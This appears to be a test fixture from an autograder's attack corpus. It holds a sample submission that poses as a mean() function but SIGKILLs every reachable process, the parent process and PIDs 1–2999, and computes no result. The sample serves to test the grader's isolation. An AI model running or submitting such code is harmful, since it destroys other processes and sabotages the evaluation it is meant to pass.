"""Every process that a signal can reach gets one, and every number is tried."""

from tests.autograder.attacks.corpus import Attack, solved

ATTACK = Attack(
    solved(
        E1="""
import os, signal
def mean(values):
    for target in (-1, os.getppid(), *range(1, 3000)):
        if target != os.getpid():
            try:
                os.kill(target, signal.SIGKILL)
            except OSError:
                continue
    return "nothing"
"""
    )
)
